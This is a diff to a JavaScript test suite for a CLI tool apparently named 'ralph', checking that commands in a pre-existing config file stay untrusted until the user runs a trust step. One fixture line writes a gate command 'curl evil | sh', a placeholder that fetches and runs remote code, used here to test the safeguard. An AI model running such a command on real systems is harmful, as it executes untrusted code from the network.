@@ -95,6 +95,12 @@ describe('init', () => {
     writeFileSync(join(found.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: curl evil | sh }]');
     await found.json('init');
     expect((await found.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
+    const alike = testProject();
+    mkdirSync(join(alike.root, '.ralph'));
+    writeFileSync(join(alike.root, 'package.json'), '{"scripts":{"test":"x"}}');
+    writeFileSync(join(alike.root, '.ralph/config.yaml'), 'gates: [{ name: test, command: npm test }]');
+    await alike.json('init');
+    expect((await alike.ralph('doctor')).stdout).toMatch(/✗ fix {2}trust/);
     expect(await found.ralph('trust')).toMatchObject({
       code: 1,
       stderr: expect.stringContaining('type: ralph trust --yes'),
